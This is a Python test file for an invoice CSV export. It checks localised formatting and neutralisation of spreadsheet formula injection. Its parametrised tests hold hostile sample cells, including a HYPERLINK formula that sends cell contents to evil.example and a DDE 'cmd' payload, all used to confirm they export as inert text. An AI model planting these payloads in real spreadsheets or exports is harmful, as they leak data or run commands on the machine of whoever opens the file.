"""The invoice list as CSV, and cells that a spreadsheet must never run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from debtordesk.core.csv_export import CSV_ENCODING, invoices_csv
from debtordesk.core.csv_safety import FORMULA_STARTS, is_plain_number, looks_like_formula, safe_cell
from debtordesk.core.model import HoldKind, Invoice, InvoiceRow, InvoiceState, Language

TODAY = date(2026, 11, 23)


def _row(number: str = "2026-014", client: str = "Bakkerij Bos", net: int = 100000, vat: int = 21000,
         paid: int = 0, due: date = date(2026, 11, 1), state: InvoiceState = InvoiceState(),
         client_id: int = 1) -> InvoiceRow:
    invoice = Invoice(client_id=client_id, number=number, issue_date=date(2026, 10, 2), due_date=due,
                      net_cents=net, vat_cents=vat)
    return InvoiceRow(invoice, client, paid, state)


def _parse(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# -- the export ---------------------------------------------------------------------------------------

def test_dutch_export_uses_semicolons_decimal_commas_and_dutch_dates() -> None:
    rows = [_row(net=1_000_000, vat=210_000, paid=12_345), _row("2026-015", "Café De Kroon", 80000, 16800,
                                                                   due=date(2026, 12, 1))]
    text = invoices_csv(rows, None, Language.NL, today=TODAY)
    assert text.endswith("\r\n")
    assert _parse(text, ";") == [
        ["Factuurnummer", "Klant", "Factuurdatum", "Vervaldatum", "Totaal", "Betaald", "Openstaand", "Valuta",
         "Status"],
        ["2026-014", "Bakkerij Bos", "02-10-2026", "01-11-2026", "12100,00", "123,45", "11976,55", "EUR",
         "Te laat"],
        ["2026-015", "Café De Kroon", "02-10-2026", "01-12-2026", "968,00", "0,00", "968,00", "EUR",
         "Nog niet vervallen"],
    ]


def test_english_and_french_exports() -> None:
    english = _parse(invoices_csv([_row(paid=121000)], None, "en", today=TODAY), ",")
    assert english[0][:2] == ["Invoice number", "Client"]
    assert english[1] == ["2026-014", "Bakkerij Bos", "2026-10-02", "2026-11-01", "1210.00", "1210.00", "0.00",
                          "EUR", "Paid"]
    french = _parse(invoices_csv([_row()], None, Language.FR, today=TODAY), ";")
    assert french[0][3] == "Échéance"
    assert french[1][2:7] == ["02/10/2026", "01/11/2026", "1210,00", "0,00", "1210,00"]
    assert french[1][8] == "En retard"


def test_status_without_a_day_to_judge_by() -> None:
    rows = [_row(), _row("2", paid=121000), _row("3", state=InvoiceState(hold_kind=HoldKind.DISPUTE)),
            _row("4", state=InvoiceState(hold_kind=HoldKind.HOLD)),
            _row("5", state=InvoiceState(written_off_on=TODAY)),
            _row("6", state=InvoiceState(handed_over_on=TODAY, handed_over_to="Incasso BV"))]
    statuses = [line[-1] for line in _parse(invoices_csv(rows, None, Language.EN), ",")[1:]]
    assert statuses == ["Open", "Paid", "Disputed", "On hold", "Written off", "Handed over"]


def test_client_names_can_be_given_per_client() -> None:
    rows = [_row(client_id=1), _row("2", client_id=2)]
    lines = _parse(invoices_csv(rows, {2: "Bos & Zn."}, Language.NL), ";")
    assert [line[1] for line in lines[1:]] == ["Bakkerij Bos", "Bos & Zn."]


def test_credit_balances_stay_plain_negative_numbers() -> None:
    overpaid = _row(net=1000, vat=210, paid=2420)
    line = _parse(invoices_csv([overpaid], None, Language.NL), ";")[1]
    assert line[6] == "-12,10"


def test_the_encoding_has_a_byte_order_mark_for_excel() -> None:
    assert invoices_csv([_row(client="Zoë")], None, Language.NL).encode(CSV_ENCODING).startswith(b"\xef\xbb\xbf")


# -- formula injection ---------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "@SUM(A1)",
                                  "+31 20 123 4567", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1"])
def test_a_formula_in_a_client_name_comes_out_as_text(name: str) -> None:
    for language, delimiter in ((Language.NL, ";"), (Language.EN, ",")):
        cell = _parse(invoices_csv([_row(client=name)], None, language), delimiter)[1][1]
        assert cell == "'" + name


@pytest.mark.parametrize("text", ["-12,50", "-12.50", "+1.234,56", "-1,234.56", "-€12.50", "12", "", "Bakkerij"])
def test_plain_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["-", "-12,50x", "- 12", "=12", "@12", "-1+2", "-1e5", "+-1"])
def test_what_is_not_a_plain_number_is_neutralised(text: str) -> None:
    assert not is_plain_number(text)
    assert safe_cell(text) == "'" + text


def _dangerous(cell: str) -> bool:
    return (cell.startswith(FORMULA_STARTS) or cell.lstrip(" \u00a0\n").startswith(FORMULA_STARTS)) \
        and not is_plain_number(cell)


@given(st.text())
def test_a_safe_cell_never_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not _dangerous(cell)
    assert cell in (text, "'" + text)
    assert looks_like_formula(text) == (cell != text)


@given(st.text(), st.text(max_size=12), st.sampled_from(Language))
def test_no_exported_cell_starts_like_a_formula(client: str, number: str, language: Language) -> None:
    text = invoices_csv([_row(number=number, client=client)], None, language, today=TODAY)
    delimiter = "," if language == Language.EN else ";"
    lines = _parse(text, delimiter)
    assert len(lines) == 2
    assert lines[1][1] in (client, "'" + client)
    assert not any(_dangerous(cell) for line in lines for cell in line)
